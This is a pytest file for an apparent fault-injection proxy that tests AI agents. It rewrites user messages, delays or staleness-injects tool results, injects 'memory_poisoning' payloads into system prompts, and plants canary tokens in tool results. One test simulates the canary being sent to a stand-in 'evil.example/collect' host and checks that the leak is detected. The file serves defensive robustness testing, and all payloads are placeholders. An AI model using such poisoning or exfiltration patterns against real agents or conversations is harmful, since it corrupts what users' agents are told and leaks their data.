"""A whole session: conversations that were changed stay changed, and canaries are heard of again."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import replace
from typing import Any, ClassVar

import pytest

from faultwire.dice import Dice, FaultDice
from faultwire.events import Request, Response, ToolResult, Wait
from faultwire.exchange.pipeline import ExchangePipeline, SessionContext
from faultwire.exchange.rewrites import digest
from faultwire.exchange.session_state import SessionState
from faultwire.faults._api import RequestFault, ResultFault, RewrittenText
from faultwire.profile.entry_model import Entry, On
from faultwire.profile.load import inline, merge
from faultwire.profile.model import Profile
from faultwire.wire.editing.api import TextPlace
from faultwire.wire.types import Rewrite

HEAD = Request(
    "POST", "https", "api.openai.com", 443, "/v1/chat/completions", (("content-type", "application/json"),)
)
CALL = {"role": "assistant", "tool_calls": [
    {"id": "c1", "type": "function", "function": {"name": "search", "arguments": "{}"}}]}  # fmt: skip
RESULT = {"role": "tool", "tool_call_id": "c1", "content": "42 hits"}
USER = {"role": "user", "content": "find it"}


class Whisper(RequestFault):
    """Says more than the user did."""

    name: ClassVar[str] = "whisper"

    def rewrite_texts(self, texts: Sequence[TextPlace], dice: FaultDice) -> Sequence[RewrittenText]:
        new = (text for text in texts if text.role == "user" and text.new)
        return [RewrittenText(text, text.text + " or else", "whispered", "zzcanary") for text in new]


class Bait(ResultFault):
    """Plants a canary in a result."""

    name: ClassVar[str] = "bait"

    def rewrite(self, result: ToolResult, dice: FaultDice) -> Rewrite:
        return Rewrite(f"{result.text} zzcanary", canary="zzcanary")


class Slow(ResultFault):
    """Waits for a result, and leaves it as it is."""

    name: ClassVar[str] = "slow"

    def rewrite(self, result: ToolResult, dice: FaultDice) -> Rewrite | None:
        return None

    def delay_s(self, result: ToolResult, dice: FaultDice) -> float:
        return 0.25


def context(*faults: RequestFault | ResultFault, more: Profile | None = None) -> SessionContext:
    entries = tuple(Entry(id=fault.name, fault=fault, on=On(kind="llm")) for fault in faults)
    profile = Profile(name="p", entries=(*entries, *(more.entries if more else ())))
    return SessionContext("s", profile, Dice(1, "s"), SessionState())


def send(
    session: SessionContext, *messages: dict[str, Any], head: Request = HEAD
) -> tuple[ExchangePipeline, bytes]:
    pipeline = ExchangePipeline(session, head)
    departure = pipeline.request(json.dumps({"model": "m", "messages": messages}).encode())
    if departure.answer is None:
        pipeline.head(Response(200, "OK", (("content-type", "application/json"),)))
    return pipeline, departure.request.body or b""


def outcomes(pipeline: ExchangePipeline) -> list[tuple[str, str]]:
    return [(line.fault, line.outcome) for line in pipeline.ledger()]


def test_a_changed_text_stays_changed_in_every_later_request() -> None:
    session = context(Whisper())
    first, body = send(session, USER)
    assert b"find it or else" in body
    assert outcomes(first) == [("whisper", "fired")]
    assert first.ledger()[0].effect == "whispered"
    later, body = send(session, USER, CALL, RESULT)
    assert body.count(b"or else") == 1
    assert outcomes(later) == [("whisper", "no_effect"), ("whisper", "reapplied")], "nothing new was said"
    again = later.ledger()[1]
    assert again.reason == "the conversation goes on: what exchange 1 changed is changed again"
    assert (again.effect, again.key, again.site) == ("whispered", later.exchange.key, "request")


def test_only_what_is_meant_changes() -> None:
    session = context(Whisper())
    original = json.dumps({"model": "m", "messages": [USER]}).encode()
    assert send(session, USER)[1] == original.replace(b"find it", b"find it or else")


def test_a_call_that_never_goes_out_reveals_nothing() -> None:
    session = context(Whisper(), more=inline("status: {code: 503}"))
    pipeline, _ = send(session, USER)
    assert outcomes(pipeline) == [("whisper", "preempted"), ("status", "fired")]
    assert len(session.state.rewritten_texts) == 0


def test_a_signed_request_is_left_alone() -> None:
    session = context(Whisper())
    head = replace(HEAD, headers=(*HEAD.headers, ("authorization", "AWS4-HMAC-SHA256 Credential=x")))
    pipeline, body = send(session, USER, head=head)
    assert b"or else" not in body
    assert outcomes(pipeline) == [("whisper", "inapplicable")]
    assert "signed" in pipeline.ledger()[0].reason


@pytest.mark.parametrize("where", ["body", "address", "headers"])
def test_a_canary_that_comes_back_is_named(where: str) -> None:
    session = context(Bait())
    first, body = send(session, USER, CALL, RESULT)
    assert b"zzcanary" in body
    assert ("bait", "returned") not in outcomes(first)
    clean, _ = send(session, USER, CALL, RESULT, {"role": "assistant", "content": "hm"}, USER)
    assert outcomes(clean) == [("bait", "reapplied")], (
        "what we put back ourselves did not come from the model"
    )
    head = Request("POST", "https", "evil.example", 443, "/collect")
    if where == "address":
        head = replace(head, path="/collect?q=ZZCANARY")
    if where == "headers":
        head = replace(head, headers=(("x-note", "zzcanary"),))
    stolen = ExchangePipeline(session, head)
    assert stolen.needs_request_body, "any request may carry it"
    stolen.request(b"told: zzcanary" if where == "body" else b"")
    (line,) = stolen.ledger()
    assert (line.fault, line.outcome, line.site) == ("bait", "returned", "result")
    assert line.reason == f"the canary of exchange 1 is in the {where} of a request to `evil.example`"
    assert line.effect == "canary `zzcanary` came back"


def test_without_a_canary_other_requests_are_not_held() -> None:
    session = context(Bait())
    assert not ExchangePipeline(
        session, Request("POST", "https", "evil.example", 443, "/collect")
    ).needs_request_body


def test_a_result_may_only_be_late() -> None:
    session = context(Slow())
    pipeline = ExchangePipeline(session, HEAD)
    body = json.dumps({"model": "m", "messages": [USER, CALL, RESULT]}).encode()
    departure = pipeline.request(body)
    assert list(departure.actions) == [Wait(0.25)]
    assert departure.request.body == body
    pipeline.head(Response(200))
    assert pipeline.ledger()[0].effect == "result of `search` delayed by 250 ms"
    again = ExchangePipeline(session, HEAD).request(body)
    assert list(again.actions) == [], "a result waits once"


def test_what_a_tool_said_before_is_known() -> None:
    session = SessionContext("s", merge([inline("tool_stale")]), Dice(1, "s"), SessionState())
    send(session, USER, CALL, RESULT)
    other = json.loads(json.dumps(CALL).replace("c1", "c2"))
    _, body = send(session, USER, CALL, RESULT, other, {**RESULT, "tool_call_id": "c2", "content": "7 hits"})
    assert json.loads(body)["messages"][-1]["content"] == "42 hits"


def test_the_same_words_elsewhere_are_another_text() -> None:
    place = TextPlace("user", "hi", ("messages", 0, "content"), 0, True)
    assert digest(place) == digest(replace(place, path=("messages", 0, "content", 0, "text"), new=False))
    assert len({digest(place), digest(replace(place, turn=2)), digest(replace(place, role="tool"))}) == 3


SYSTEM = {"role": "system", "content": "be brief"}
POISON = "{memory_poisoning: {role: system, payload: zzz}, trigger: {probability: 0.3}}"


def test_conversations_that_share_a_system_prompt_do_not_share_an_attack() -> None:
    def poisoned(order: Sequence[int]) -> dict[int, bool]:
        session = SessionContext("s", merge([inline(POISON)]), Dice(7, "s"), SessionState())
        found = {n: send(session, SYSTEM, {"role": "user", "content": f"job {n}"}) for n in order}
        for pipeline, body in found.values():
            assert (outcomes(pipeline) == [("memory_poisoning", "fired")]) == (b"zzz" in body)
        return {n: b"zzz" in found[n][1] for n in sorted(found)}

    once = poisoned(range(8))
    assert 0 < sum(once.values()) < 8
    assert poisoned(range(7, -1, -1)) == once
    assert poisoned((3, 0, 7, 1, 6, 2, 5, 4)) == once


def test_a_rewrite_asks_again_whom_it_is_about() -> None:
    made = merge([inline("{memory_poisoning: {role: system, payload: zzz}, on: {model: gpt-4o}}")])
    session = SessionContext("s", made, Dice(7, "s"), SessionState())

    def body(model: str, *messages: dict[str, Any]) -> bytes:
        said = json.dumps({"model": model, "messages": [SYSTEM, *messages]}).encode()
        return ExchangePipeline(session, HEAD).request(said).request.body or b""

    assert b"zzz" in body("gpt-4o", USER)
    assert b"zzz" not in body("gpt-4o-mini", USER)
    assert b"zzz" not in body("gpt-4o-mini", USER, CALL, RESULT)
    assert b"zzz" in body("gpt-4o", USER, CALL, RESULT)


@pytest.mark.parametrize("moment", ["turn: 1", "text: find"])
def test_a_rewrite_outlives_the_moment_that_it_was_made_for(moment: str) -> None:
    made = merge([inline(f"{{memory_poisoning: {{payload: zzz}}, on: {{kind: llm, {moment}}}}}")])
    session = SessionContext("s", made, Dice(7, "s"), SessionState())
    assert b"zzz" in send(session, USER)[1]
    said = {"role": "assistant", "content": "yes?"}
    later, body = send(session, USER, said, {"role": "user", "content": "never mind"})
    assert b"zzz" in body
    assert outcomes(later) == [("memory_poisoning", "reapplied")]


def test_every_request_that_is_changed_again_has_its_line() -> None:
    made = merge([inline("{memory_poisoning: {payload: zzz}, trigger: {max_times: 1}}")])
    session = SessionContext("s", made, Dice(7, "s"), SessionState())
    history = [USER]
    assert outcomes(send(session, *history)[0]) == [("memory_poisoning", "fired")]
    for turn in range(3):
        history += [{"role": "assistant", "content": "yes?"}, {"role": "user", "content": f"and {turn}"}]
        pipeline, body = send(session, *history)
        assert b"zzz" in body
        assert outcomes(pipeline) == [("memory_poisoning", "skipped"), ("memory_poisoning", "reapplied")]
    other, body = send(session, {"role": "user", "content": "find something else"})
    assert b"zzz" not in body
    assert outcomes(other) == [("memory_poisoning", "skipped")]


def test_the_first_entry_wins_a_text_whichever_request_comes_first() -> None:
    entries = (
        "{memory_poisoning: {payload: first}, id: one, on: {model: big}}",
        "{memory_poisoning: {payload: second}, id: two}",
    )

    def delivered(*models: str) -> dict[str, bytes]:
        made = merge([inline(text) for text in entries])
        session = SessionContext("s", made, Dice(7, "s"), SessionState())
        asked = {model: json.dumps({"model": model, "messages": [USER]}).encode() for model in models}
        return {m: ExchangePipeline(session, HEAD).request(asked[m]).request.body or b"" for m in models}

    once = delivered("big", "small")
    assert b"first" in once["big"]
    assert b"second" in once["small"]
    assert delivered("small", "big") == once


def test_the_exchange_carries_its_instant() -> None:
    times = iter((105.0, 99.0))
    session = SessionContext("s", Profile(name="p"), Dice(1, "s"), SessionState(), lambda: next(times), 100.0)
    assert ExchangePipeline(session, HEAD).exchange.at_s == 5.0
    assert ExchangePipeline(session, HEAD).exchange.at_s == 0.0
